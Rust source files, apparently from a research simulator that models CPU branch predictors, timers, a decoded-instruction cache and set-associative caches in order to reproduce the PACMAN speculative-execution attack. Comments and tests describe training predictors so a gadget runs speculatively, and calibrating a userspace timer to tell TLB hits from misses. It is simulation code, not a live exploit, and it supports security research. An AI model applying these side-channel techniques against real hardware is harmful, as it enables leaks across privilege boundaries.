    }

    /// Restores state written by [`Bimodal::save_state`], replacing the
    /// current table.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation or a counter
    /// state outside 0..=3.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        let n = r.usize()?;
        self.table.clear();
        for _ in 0..n {
            let pc = r.u64()?;
            let state = r.u8()?;
            if state > 3 {
                return Err(pacman_telemetry::bin::BinError::Corrupt(format!(
                    "2-bit counter state {state}"
                )));
            }
            self.table.insert(pc, Counter2(state));
        }
        Ok(())
    }
}

/// Branch target buffer for indirect branches.
#[derive(Clone, Debug, Default)]
pub struct Btb {
    table: HashMap<u64, u64, FxBuild>,
}

impl Btb {
    /// Creates an empty BTB.
    pub fn new() -> Self {
        Self::default()
    }

    /// Predicted target of the indirect branch at `pc`, if any.
    pub fn predict(&self, pc: u64) -> Option<u64> {
        self.table.get(&pc).copied()
    }

    /// Records the resolved target.
    pub fn train(&mut self, pc: u64, target: u64) {
        self.table.insert(pc, target);
    }

    /// Forgets everything.
    pub fn reset(&mut self) {
        self.table.clear();
    }

    /// Serialises entries as (pc, target) pairs sorted by pc.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        let mut pairs: Vec<(u64, u64)> = self.table.iter().map(|(&pc, &t)| (pc, t)).collect();
        pairs.sort_unstable();
        w.usize(pairs.len());
        for (pc, target) in pairs {
            w.u64(pc);
            w.u64(target);
        }
    }

    /// Restores state written by [`Btb::save_state`], replacing the
    /// current table.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        let n = r.usize()?;
        self.table.clear();
        for _ in 0..n {
            let pc = r.u64()?;
            let target = r.u64()?;
            self.table.insert(pc, target);
        }
        Ok(())
    }
}

/// A return stack buffer: call instructions push their return address,
/// `ret` pops the prediction. Bounded; overflow discards the oldest
/// entry, underflow predicts nothing (falling back to the BTB).
#[derive(Clone, Debug)]
pub struct Rsb {
    stack: Vec<u64>,
    capacity: usize,
}

impl Default for Rsb {
    fn default() -> Self {
        Self::new(16)
    }
}

impl Rsb {
    /// Creates an RSB with the given depth.
    pub fn new(capacity: usize) -> Self {
        assert!(capacity > 0);
        Self { stack: Vec::with_capacity(capacity), capacity }
    }

    /// Records a call's return address.
    pub fn push(&mut self, return_address: u64) {
        if self.stack.len() == self.capacity {
            self.stack.remove(0);
        }
        self.stack.push(return_address);
    }

    /// Consumes and returns the prediction for the next `ret`.
    pub fn pop(&mut self) -> Option<u64> {
        self.stack.pop()
    }

    /// Current depth.
    pub fn depth(&self) -> usize {
        self.stack.len()
    }

    /// Forgets everything.
    pub fn reset(&mut self) {
        self.stack.clear();
    }

    /// Serialises the return stack oldest-first.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.usize(self.capacity);
        w.usize(self.stack.len());
        for &ra in &self.stack {
            w.u64(ra);
        }
    }

    /// Restores state written by [`Rsb::save_state`]; the capacity in
    /// the stream must match this RSB's.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation, a capacity
    /// mismatch, or a depth beyond capacity.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        use pacman_telemetry::bin::BinError;
        let capacity = r.usize()?;
        if capacity != self.capacity {
            return Err(BinError::Corrupt(format!("RSB capacity {capacity} != {}", self.capacity)));
        }
        let depth = r.usize()?;
        if depth > capacity {
            return Err(BinError::Corrupt(format!("RSB depth {depth} > capacity {capacity}")));
        }
        self.stack.clear();
        for _ in 0..depth {
            self.stack.push(r.u64()?);
        }
        Ok(())
    }
}

/// Always-on prediction-outcome counters (plain `u64` adds in the
/// branch-resolution paths; exported into a telemetry registry at
/// snapshot time). The predictors themselves stay outcome-free — the
/// machine resolves branches, so the machine counts.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub struct PredictStats {
    /// Conditional branches the bimodal predictor called correctly.
    pub bimodal_correct: u64,
    /// Conditional branches it mispredicted (each opens a shadow).
    pub bimodal_mispredicts: u64,
    /// Indirect branches with a BTB-predicted target available.
    pub btb_hits: u64,
    /// Indirect branches with no BTB entry (no speculation possible).
    pub btb_misses: u64,
    /// BTB predictions that named the wrong target.
    pub btb_mispredicts: u64,
    /// Returns predicted from the RSB.
    pub rsb_hits: u64,
    /// Returns that underflowed the RSB and fell back to the BTB.
    pub rsb_underflows: u64,
    /// Returns whose predicted target (RSB or BTB) was wrong.
    pub ret_mispredicts: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rsb_is_a_bounded_lifo() {
        let mut r = Rsb::new(2);
        r.push(1);
        r.push(2);
        r.push(3); // evicts 1
        assert_eq!(r.depth(), 2);
        assert_eq!(r.pop(), Some(3));
        assert_eq!(r.pop(), Some(2));
        assert_eq!(r.pop(), None, "entry 1 was discarded on overflow");
    }

    #[test]
    fn rsb_reset_clears() {
        let mut r = Rsb::default();
        r.push(42);
        r.reset();
        assert_eq!(r.pop(), None);
    }

    #[test]
    fn bimodal_defaults_not_taken() {
        let p = Bimodal::new();
        assert!(!p.predict(0x1000));
    }

    #[test]
    fn bimodal_learns_taken_from_weakly_not_taken() {
        // Counters initialise weakly not-taken (state 1), so a single
        // taken outcome flips the prediction.
        let mut p = Bimodal::new();
        p.train(0x1000, true);
        assert!(p.predict(0x1000));
        p.train(0x1000, false);
        assert!(!p.predict(0x1000), "weak-taken flips back after one not-taken");
    }

    #[test]
    fn bimodal_hysteresis_survives_one_opposite_outcome() {
        // This is exactly the attack's requirement: after 64 taken
        // trainings, a single not-taken execution still predicts taken —
        // i.e. the gadget body runs speculatively (paper §8.1 step 1/4).
        let mut p = Bimodal::new();
        for _ in 0..64 {
            p.train(0x40, true);
        }
        assert!(p.predict(0x40));
        p.train(0x40, false);
        assert!(p.predict(0x40), "saturated counter must survive one mispredict");
        p.train(0x40, false);
        p.train(0x40, false);
        assert!(!p.predict(0x40), "repeated not-taken retrains the counter");
    }

    #[test]
    fn bimodal_is_per_pc() {
        let mut p = Bimodal::new();
        p.train(0x40, true);
        p.train(0x40, true);
        assert!(p.predict(0x40));
        assert!(!p.predict(0x44));
    }

    #[test]
    fn btb_remembers_last_target() {
        let mut b = Btb::new();
        assert_eq!(b.predict(0x100), None);
        b.train(0x100, 0xAAAA);
        assert_eq!(b.predict(0x100), Some(0xAAAA));
        b.train(0x100, 0xBBBB);
        assert_eq!(b.predict(0x100), Some(0xBBBB));
    }

    #[test]
    fn predictors_round_trip_through_the_codec() {
        let mut p = Bimodal::new();
        p.train(0x40, true);
        p.train(0x40, true);
        p.train(0x80, false);
        let mut b = Btb::new();
        b.train(0x100, 0xAAAA);
        let mut rsb = Rsb::new(4);
        rsb.push(0x1000);
        rsb.push(0x2000);
        let mut w = pacman_telemetry::bin::Writer::new();
        p.save_state(&mut w);
        b.save_state(&mut w);
        rsb.save_state(&mut w);
        let bytes = w.into_bytes();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        let (mut p2, mut b2, mut rsb2) = (Bimodal::new(), Btb::new(), Rsb::new(4));
        p2.restore_state(&mut r).unwrap();
        b2.restore_state(&mut r).unwrap();
        rsb2.restore_state(&mut r).unwrap();
        assert!(r.is_done());
        assert!(p2.predict(0x40));
        assert!(!p2.predict(0x80));
        assert_eq!(b2.predict(0x100), Some(0xAAAA));
        assert_eq!(rsb2.pop(), Some(0x2000));
        assert_eq!(rsb2.pop(), Some(0x1000));
        // A differently-sized RSB rejects the stream instead of panicking.
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        Bimodal::new().restore_state(&mut r).unwrap();
        Btb::new().restore_state(&mut r).unwrap();
        assert!(Rsb::new(8).restore_state(&mut r).is_err());
    }

    #[test]
    fn resets_clear_state() {
        let mut p = Bimodal::new();
        let mut b = Btb::new();
        p.train(1, true);
        p.train(1, true);
        b.train(1, 2);
        p.reset();
        b.reset();
        assert!(!p.predict(1));
        assert_eq!(b.predict(1), None);
    }
}
