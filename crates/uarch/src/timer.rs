//! The timers of paper Table 1 and §6.1.
//!
//! | timer | model |
//! |---|---|
//! | `CNTPCT_EL0` | cycles scaled to 24 MHz — EL0-readable but too coarse |
//! | `PMC0` | the raw cycle counter — EL1-only unless a kext sets `PMCR0` |
//! | multi-thread counter | a shared variable incremented by a dedicated timer thread; modelled as `cycles * rate` plus bounded jitter (no `isb` in the increment loop, §6.1) |
//!
//! The multi-thread timer's tick rate and jitter are calibrated so the
//! §7.4 decision threshold (30 ticks: dTLB hits ≤ 27, misses ≥ 32)
//! emerges from the model.

use rand::rngs::SmallRng;
use rand::Rng;

/// Timing source used by the measurement helpers.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum TimingSource {
    /// Apple `PMC0` cycle counter (requires the kext-enabled EL0 access).
    Pmc0,
    /// The userspace multi-thread counter (no privileges required).
    #[default]
    MultiThread,
    /// The 24 MHz architected system counter (`CNTPCT_EL0`).
    SystemCounter,
}

/// Converts the global cycle count into each timer's reading.
#[derive(Clone, Debug)]
pub struct Timers {
    /// `CNTFRQ_EL0` value (24 MHz).
    system_counter_hz: u64,
    /// Core cycles per system-counter tick, precomputed at construction
    /// so `cntpct` divides by a value known to be nonzero.
    cycles_per_tick: u64,
    /// Whether a kext has made `PMC0` readable at EL0 (`PMCR0` bit).
    pub pmc0_el0_enabled: bool,
    /// Multi-thread counter increments per cycle, expressed as a rational
    /// `num/den` (default 2/5 = one increment per 2.5 cycles).
    mt_rate: (u64, u64),
    /// Bounded jitter (± this many ticks) on multi-thread reads, from the
    /// racing increment loop having no serialisation barriers.
    mt_jitter: u64,
    /// Monotonicity guard for jittered reads.
    last_mt: u64,
}

impl Timers {
    /// Creates the timer block.
    ///
    /// # Panics
    ///
    /// Panics when `system_counter_hz` is zero or faster than `clock_hz`:
    /// the cycles-per-tick ratio would be zero and every `cntpct` read
    /// would divide by it. `MachineConfig::validate` reports the same
    /// condition as a typed error before any `Timers` is built.
    pub fn new(clock_hz: u64, system_counter_hz: u64) -> Self {
        assert!(
            system_counter_hz > 0 && clock_hz >= system_counter_hz,
            "timer ratio invalid: clock_hz {clock_hz} must be >= system_counter_hz \
             {system_counter_hz} > 0 (cycles-per-tick would be zero)"
        );
        Self {
            system_counter_hz,
            cycles_per_tick: clock_hz / system_counter_hz,
            pmc0_el0_enabled: false,
            mt_rate: (2, 5),
            mt_jitter: 1,
            last_mt: 0,
        }
    }

    /// The `CNTFRQ_EL0` value.
    pub fn cntfrq(&self) -> u64 {
        self.system_counter_hz
    }

    /// The `CNTPCT_EL0` reading at `cycles`.
    pub fn cntpct(&self, cycles: u64) -> u64 {
        // 3.2 GHz / 24 MHz ≈ 133 cycles per tick.
        cycles / self.cycles_per_tick
    }

    /// The `PMC0` reading (raw cycles).
    pub fn pmc0(&self, cycles: u64) -> u64 {
        cycles
    }

    /// The multi-thread counter reading: a racing increment loop sampled
    /// at `cycles`, with bounded jitter but guaranteed monotonic.
    pub fn multi_thread(&mut self, cycles: u64, rng: &mut SmallRng) -> u64 {
        let base = cycles * self.mt_rate.0 / self.mt_rate.1;
        let jitter = rng.gen_range(0..=2 * self.mt_jitter) as i64 - self.mt_jitter as i64;
        let v = base.saturating_add_signed(jitter).max(self.last_mt);
        self.last_mt = v;
        v
    }

    /// Reads the selected source. `PMC0` at EL0 without the kext
    /// enablement returns `None` (the `MRS` would trap — Table 1).
    pub fn read(
        &mut self,
        source: TimingSource,
        cycles: u64,
        at_el0: bool,
        rng: &mut SmallRng,
    ) -> Option<u64> {
        match source {
            TimingSource::Pmc0 => {
                if at_el0 && !self.pmc0_el0_enabled {
                    None
                } else {
                    Some(self.pmc0(cycles))
                }
            }
            TimingSource::MultiThread => Some(self.multi_thread(cycles, rng)),
            TimingSource::SystemCounter => Some(self.cntpct(cycles)),
        }
    }

    /// Ticks of the multi-thread counter corresponding to one core cycle,
    /// as a float (for reports).
    pub fn mt_ticks_per_cycle(&self) -> f64 {
        self.mt_rate.0 as f64 / self.mt_rate.1 as f64
    }

    /// Serialises the mutable timer state (everything else is fixed at
    /// construction from the machine configuration).
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.bool(self.pmc0_el0_enabled);
        w.u64(self.last_mt);
    }

    /// Restores state written by [`Timers::save_state`].
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation or corruption.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        self.pmc0_el0_enabled = r.bool()?;
        self.last_mt = r.u64()?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn timers() -> Timers {
        Timers::new(3_200_000_000, 24_000_000)
    }

    #[test]
    fn system_counter_is_coarse() {
        let t = timers();
        // ~133 cycles per tick: a 60-cycle L1 hit and a 95-cycle dTLB miss
        // are indistinguishable — the Table 1 motivation for better timers.
        assert_eq!(t.cntpct(0), 0);
        assert_eq!(t.cntpct(60), 0);
        assert_eq!(t.cntpct(95), 0);
        assert_eq!(t.cntpct(133), 1);
    }

    #[test]
    fn pmc0_is_cycle_accurate_but_gated() {
        let mut t = timers();
        let mut rng = SmallRng::seed_from_u64(1);
        assert_eq!(t.read(TimingSource::Pmc0, 1234, false, &mut rng), Some(1234));
        assert_eq!(t.read(TimingSource::Pmc0, 1234, true, &mut rng), None, "EL0 read traps");
        t.pmc0_el0_enabled = true;
        assert_eq!(t.read(TimingSource::Pmc0, 1234, true, &mut rng), Some(1234));
    }

    #[test]
    fn multi_thread_counter_resolves_the_threshold() {
        // §7.4: with threshold 30, 60-cycle (hit) vs 95-cycle (miss)
        // deltas must separate under jitter. Sample many measurement pairs.
        let mut t = timers();
        let mut rng = SmallRng::seed_from_u64(7);
        let mut cycles = 0u64;
        for _ in 0..500 {
            let t1 = t.multi_thread(cycles, &mut rng);
            cycles += 60;
            let t2 = t.multi_thread(cycles, &mut rng);
            let hit_delta = t2 - t1;
            cycles += 1000;
            let t3 = t.multi_thread(cycles, &mut rng);
            cycles += 95;
            let t4 = t.multi_thread(cycles, &mut rng);
            let miss_delta = t4 - t3;
            cycles += 1000;
            assert!(hit_delta <= 27, "hit measured {hit_delta} ticks (> 27)");
            assert!(miss_delta >= 32, "miss measured {miss_delta} ticks (< 32)");
        }
    }

    #[test]
    fn multi_thread_counter_is_monotonic() {
        let mut t = timers();
        let mut rng = SmallRng::seed_from_u64(3);
        let mut last = 0;
        for c in (0..10_000).step_by(3) {
            let v = t.multi_thread(c, &mut rng);
            assert!(v >= last);
            last = v;
        }
    }

    #[test]
    fn cntfrq_reports_24mhz() {
        assert_eq!(timers().cntfrq(), 24_000_000);
    }

    #[test]
    #[should_panic(expected = "timer ratio invalid")]
    fn inverted_ratio_is_rejected_at_construction() {
        // clock slower than the system counter: cycles-per-tick would be 0
        // and the old code divided by it on every `cntpct` read.
        let _ = Timers::new(24_000_000, 3_200_000_000);
    }

    #[test]
    #[should_panic(expected = "timer ratio invalid")]
    fn zero_counter_frequency_is_rejected_at_construction() {
        let _ = Timers::new(3_200_000_000, 0);
    }
}
