//! Predecoded basic-block cache: the hot half of the execution engine.
//!
//! The interpreter's per-step cost was dominated by re-reading the fetched
//! word from sparse physical memory and re-decoding it, both of which are
//! pure functions of frame contents. This cache decodes each fetched word
//! once into a flat micro-op arena and re-dispatches from the arena on
//! re-entry:
//!
//! - **Keying.** Entries are keyed by *physical* address, so aliased
//!   mappings share decoded code and remaps cannot serve stale virtual
//!   translations (translation, permissions, and all timing still go
//!   through `fetch_access` on every step — the cache only replaces the
//!   `read_u32` + `decode` pair).
//! - **Slots.** Each frame that has been decoded from gets a dense
//!   `PAGE_SIZE / 4` slot table mapping word index → arena index, so the
//!   dispatch path is one hash lookup plus one array index.
//! - **Runs.** A miss decodes forward from the missing word — up to
//!   [`MAX_RUN`] instructions, stopping at the frame boundary, at an
//!   undecodable word, or after an unconditional control transfer — so
//!   straight-line code warms in one pass.
//! - **Invalidation.** Decoding registers the frame with
//!   [`PhysMemory::note_code_frame`]; any later write into a registered
//!   frame bumps the global code-write generation and the next dispatch
//!   flushes the whole cache. Self-modifying stores therefore always see
//!   freshly decoded code, at the cost of re-warming (the conformance
//!   harness pins this against the reference machine).
//! - **Bypasses.** Misaligned fetches and words straddling a frame
//!   boundary are decoded directly without caching: they cannot use the
//!   one-frame slot table, and a straddling word would need generation
//!   checks on two frames.

use pacman_isa::ptr::PAGE_SIZE;
use pacman_isa::{decode, Inst};

use crate::mem::PhysMemory;

/// Maximum instructions decoded ahead of a missing word in one run.
const MAX_RUN: usize = 64;
/// Arena size bound; reaching it flushes the cache (a new epoch) rather
/// than growing without limit under pathological self-modifying code.
const ARENA_CAP: usize = 1 << 20;
/// Words per frame slot table.
const SLOTS: usize = (PAGE_SIZE / 4) as usize;

/// Dispatch and invalidation counters, exported as `exec.block.*`.
#[derive(Copy, Clone, Eq, PartialEq, Debug, Default)]
pub struct BlockCacheStats {
    /// Dispatches served from the arena.
    pub hits: u64,
    /// Dispatches that triggered a decode run.
    pub misses: u64,
    /// Instructions decoded into the arena (lifetime, across flushes).
    pub decoded: u64,
    /// Whole-cache flushes caused by writes into decoded code frames.
    pub invalidations: u64,
    /// Misaligned or frame-straddling fetches decoded without caching.
    pub bypasses: u64,
}

/// The predecoded block cache. One per [`crate::Machine`]; purely a
/// host-side accelerator — it never changes simulated cycles, RNG draws,
/// or microarchitectural state.
#[derive(Debug, Default)]
pub struct BlockCache {
    /// Per-frame micro-op arenas, indexed `pfn - 1` (frames are
    /// bump-allocated densely from PFN 1, so this mirrors
    /// [`PhysMemory`]'s own storage): one flat `PAGE_SIZE / 4` slot
    /// table per decoded-from frame, word index → predecoded micro-op.
    /// Storing the `Inst` inline makes a dispatch hit exactly one
    /// indexed load; frames never decoded from stay `None`.
    frames: Vec<Option<Box<[Option<Inst>]>>>,
    /// Micro-ops currently live across all frame arenas (capacity
    /// accounting for the epoch flush).
    live: usize,
    /// The code-write generation the cached entries were decoded at.
    valid_gen: u64,
    /// Dispatch counters.
    pub stats: BlockCacheStats,
}

impl BlockCache {
    /// An empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Returns the decoded instruction at physical address `pa`, or `None`
    /// if the word there does not decode (the caller raises the same
    /// `Trap::Decode` the interpreter would).
    ///
    /// Takes `phys` mutably only to register decoded-from frames for
    /// write tracking; memory contents are never modified.
    pub fn fetch(&mut self, pa: u64, phys: &mut PhysMemory) -> Option<Inst> {
        let gen = phys.code_write_gen();
        if gen != self.valid_gen {
            // A store hit a decoded code frame since the last dispatch:
            // drop everything and re-decode on demand.
            self.frames.clear();
            self.live = 0;
            self.valid_gen = gen;
            self.stats.invalidations += 1;
        }
        let pfn = pa / PAGE_SIZE;
        let off = (pa % PAGE_SIZE) as usize;
        if !pa.is_multiple_of(4) || off + 4 > SLOTS * 4 {
            self.stats.bypasses += 1;
            return decode(phys.read_u32(pa)).ok();
        }
        if let Some(Some(slots)) = self.frames.get((pfn.wrapping_sub(1)) as usize) {
            if let Some(inst) = slots[off / 4] {
                self.stats.hits += 1;
                return Some(inst);
            }
        }
        self.stats.misses += 1;
        self.decode_run(pa, phys)
    }

    fn decode_run(&mut self, pa: u64, phys: &mut PhysMemory) -> Option<Inst> {
        if self.live + MAX_RUN > ARENA_CAP {
            self.frames.clear();
            self.live = 0;
        }
        let pfn = pa / PAGE_SIZE;
        if !phys.is_backed(pfn) {
            // Unallocated frames read as zero and cannot be registered for
            // write tracking, so nothing from them may be cached.
            self.stats.bypasses += 1;
            return decode(phys.read_u32(pa)).ok();
        }
        phys.note_code_frame(pfn);
        let first = decode(phys.read_u32(pa)).ok()?;
        let fi = (pfn - 1) as usize;
        if self.frames.len() <= fi {
            self.frames.resize_with(fi + 1, || None);
        }
        let slots = self.frames[fi].get_or_insert_with(|| vec![None; SLOTS].into_boxed_slice());
        let mut inst = first;
        let mut off = (pa % PAGE_SIZE) as usize;
        for _ in 0..MAX_RUN {
            self.live += usize::from(slots[off / 4].is_none());
            slots[off / 4] = Some(inst);
            self.stats.decoded += 1;
            off += 4;
            if off + 4 > SLOTS * 4 || ends_run(inst) {
                break;
            }
            match decode(phys.read_u32(pfn * PAGE_SIZE + off as u64)) {
                Ok(i) => inst = i,
                Err(_) => break,
            }
        }
        Some(first)
    }

    /// Serialises which slots are decoded (one bitmap per frame) plus the
    /// generation and counters. The `Inst` values themselves are not
    /// written: generation invalidation guarantees every cached entry
    /// matches current memory, so a restore re-decodes them exactly.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.u64(self.valid_gen);
        w.usize(self.live);
        w.u64(self.stats.hits);
        w.u64(self.stats.misses);
        w.u64(self.stats.decoded);
        w.u64(self.stats.invalidations);
        w.u64(self.stats.bypasses);
        w.usize(self.frames.len());
        for frame in &self.frames {
            match frame {
                None => w.bool(false),
                Some(slots) => {
                    w.bool(true);
                    let mut bitmap = vec![0u8; SLOTS / 8];
                    for (i, slot) in slots.iter().enumerate() {
                        if slot.is_some() {
                            bitmap[i / 8] |= 1 << (i % 8);
                        }
                    }
                    w.bytes(&bitmap);
                }
            }
        }
    }

    /// Restores state written by [`BlockCache::save_state`], re-decoding
    /// each flagged slot from `phys` (which must already hold the memory
    /// image the snapshot was taken against).
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation, a malformed
    /// bitmap, a live count disagreeing with the bitmaps, or a flagged
    /// word that no longer decodes (all of which mean the snapshot does
    /// not match the memory image).
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
        phys: &PhysMemory,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        use pacman_telemetry::bin::BinError;
        self.valid_gen = r.u64()?;
        let live = r.usize()?;
        self.stats.hits = r.u64()?;
        self.stats.misses = r.u64()?;
        self.stats.decoded = r.u64()?;
        self.stats.invalidations = r.u64()?;
        self.stats.bypasses = r.u64()?;
        let count = r.usize()?;
        self.frames.clear();
        self.live = 0;
        for fi in 0..count {
            if !r.bool()? {
                self.frames.push(None);
                continue;
            }
            let bitmap = r.bytes()?;
            if bitmap.len() != SLOTS / 8 {
                return Err(BinError::Corrupt(format!("slot bitmap of {} bytes", bitmap.len())));
            }
            let pfn = fi as u64 + 1;
            let mut slots = vec![None; SLOTS].into_boxed_slice();
            for i in 0..SLOTS {
                if bitmap[i / 8] & (1 << (i % 8)) != 0 {
                    let pa = pfn * PAGE_SIZE + 4 * i as u64;
                    let inst = decode(phys.read_u32(pa)).map_err(|_| {
                        BinError::Corrupt(format!("cached slot at {pa:#x} no longer decodes"))
                    })?;
                    slots[i] = Some(inst);
                    self.live += 1;
                }
            }
            self.frames.push(Some(slots));
        }
        if live != self.live {
            return Err(BinError::Corrupt(format!("live count {live} != {} slots", self.live)));
        }
        Ok(())
    }
}

/// Whether decoding should stop after `inst`: unconditional control
/// transfers (and halts) end straight-line runs, so the arena does not
/// fill with whatever bytes follow a function's final branch.
fn ends_run(inst: Inst) -> bool {
    matches!(
        inst,
        Inst::B { .. }
            | Inst::Bl { .. }
            | Inst::Br { .. }
            | Inst::Blr { .. }
            | Inst::Ret
            | Inst::Hlt
            | Inst::Eret
            | Inst::Svc { .. }
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use pacman_isa::{encode, Reg};

    fn backed(phys: &mut PhysMemory) -> u64 {
        phys.alloc_frame() * PAGE_SIZE
    }

    fn write_inst(phys: &mut PhysMemory, pa: u64, inst: Inst) {
        phys.write_u32(pa, encode(&inst).expect("encodes"));
    }

    fn movz(rd: u8, imm: u16) -> Inst {
        Inst::MovZ { rd: Reg::from_index(rd).expect("register"), imm, shift: 0 }
    }

    #[test]
    fn decodes_once_then_hits() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        let prog = [movz(1, 7), movz(2, 3), Inst::Hlt];
        for (i, inst) in prog.iter().enumerate() {
            write_inst(&mut phys, base + 4 * i as u64, *inst);
        }
        assert_eq!(bc.fetch(base, &mut phys), Some(prog[0]));
        assert_eq!(bc.stats.misses, 1);
        // The run decoded ahead: the following words are hits.
        assert_eq!(bc.fetch(base + 4, &mut phys), Some(prog[1]));
        assert_eq!(bc.fetch(base + 8, &mut phys), Some(prog[2]));
        assert_eq!(bc.fetch(base, &mut phys), Some(prog[0]));
        assert_eq!(bc.stats.misses, 1);
        assert_eq!(bc.stats.hits, 3);
    }

    #[test]
    fn undecodable_words_are_not_cached_and_return_none() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        phys.write_u32(base, 0xFFFF_FFFF);
        assert_eq!(bc.fetch(base, &mut phys), None);
        assert_eq!(bc.fetch(base, &mut phys), None);
        assert_eq!(bc.stats.hits, 0);
    }

    #[test]
    fn store_into_decoded_frame_invalidates() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        write_inst(&mut phys, base, movz(1, 7));
        assert!(matches!(bc.fetch(base, &mut phys), Some(Inst::MovZ { .. })));
        // Overwrite the decoded word: the write bumps the generation
        // because decoding registered the frame.
        write_inst(&mut phys, base, movz(1, 9));
        let refetched = bc.fetch(base, &mut phys).expect("still decodes");
        assert_eq!(refetched, movz(1, 9));
        assert_eq!(bc.stats.invalidations, 1);
    }

    #[test]
    fn writes_to_undecoded_frames_do_not_invalidate() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let code = backed(&mut phys);
        let data = backed(&mut phys);
        write_inst(&mut phys, code, movz(1, 7));
        bc.fetch(code, &mut phys);
        phys.write_u64(data, 0xDEAD_BEEF);
        bc.fetch(code, &mut phys);
        assert_eq!(bc.stats.invalidations, 0);
        assert_eq!(bc.stats.hits, 1);
    }

    #[test]
    fn misaligned_and_straddling_fetches_bypass() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        let _next = backed(&mut phys); // adjacent frame for the straddle
        let word = encode(&movz(3, 5)).expect("encodes");
        // Misaligned.
        phys.write_u32(base + 2, word);
        assert_eq!(bc.fetch(base + 2, &mut phys), Some(movz(3, 5)));
        // Straddling the frame boundary.
        phys.write_u32(base + PAGE_SIZE - 2, word);
        assert_eq!(bc.fetch(base + PAGE_SIZE - 2, &mut phys), Some(movz(3, 5)));
        assert_eq!(bc.stats.bypasses, 2);
        assert_eq!(bc.stats.hits + bc.stats.misses, 0);
    }

    #[test]
    fn save_restore_rebuilds_the_arena_by_redecoding() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        let prog = [movz(1, 7), movz(2, 3), Inst::Hlt];
        for (i, inst) in prog.iter().enumerate() {
            write_inst(&mut phys, base + 4 * i as u64, *inst);
        }
        bc.fetch(base, &mut phys);
        bc.fetch(base + 4, &mut phys);
        let mut w = pacman_telemetry::bin::Writer::new();
        bc.save_state(&mut w);
        let bytes = w.into_bytes();
        let mut fresh = BlockCache::new();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        fresh.restore_state(&mut r, &phys).unwrap();
        assert!(r.is_done());
        assert_eq!(fresh.stats, bc.stats);
        // The decoded run survives: every fetch is a hit, exactly as it
        // would be on the uninterrupted cache.
        assert_eq!(fresh.fetch(base + 8, &mut phys), Some(prog[2]));
        assert_eq!(fresh.stats.hits, bc.stats.hits + 1);
        assert_eq!(fresh.stats.misses, bc.stats.misses);
        // A snapshot whose flagged words no longer decode is corruption.
        phys.write_u32(base, 0xFFFF_FFFF);
        let mut stale = BlockCache::new();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        assert!(stale.restore_state(&mut r, &phys).is_err());
    }

    #[test]
    fn runs_stop_at_unconditional_control_flow() {
        let mut phys = PhysMemory::new();
        let mut bc = BlockCache::new();
        let base = backed(&mut phys);
        write_inst(&mut phys, base, Inst::Ret);
        // The word after the RET is garbage; a run that decoded past the
        // RET would still succeed (garbage may decode), but must not be
        // *required* to. Either way the RET itself dispatches.
        phys.write_u32(base + 4, 0xFFFF_FFFF);
        assert_eq!(bc.fetch(base, &mut phys), Some(Inst::Ret));
        assert_eq!(bc.stats.decoded, 1, "run ends at the RET");
    }
}
