//! Set-associative caches with true-LRU replacement.

/// Geometry of one cache level.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct CacheParams {
    /// Associativity.
    pub ways: usize,
    /// Number of sets (must be a power of two).
    pub sets: usize,
    /// Line size in bytes (must be a power of two).
    pub line: u64,
}

impl CacheParams {
    /// Total capacity in bytes.
    pub fn total_bytes(&self) -> u64 {
        self.ways as u64 * self.sets as u64 * self.line
    }
}

/// A generic set-associative, true-LRU lookup structure over `u64` tags.
///
/// Shared by the caches (tag = line address) and, through
/// [`crate::tlb::Tlb`], the TLBs (tag = virtual page number, payload
/// carried separately).
#[derive(Clone, Debug)]
pub(crate) struct SetAssoc {
    ways: usize,
    /// Cached `sets - 1` (sets are a power of two).
    set_mask: usize,
    /// Flat MRU-first tag storage, indexed `set * ways + way`. Only the
    /// first `occ[set]` ways of each set are live; everything runs on
    /// slice rotations, so no access ever allocates.
    lines: Vec<u64>,
    /// Live-way count per set.
    occ: Vec<u16>,
}

impl SetAssoc {
    pub(crate) fn new(ways: usize, sets: usize) -> Self {
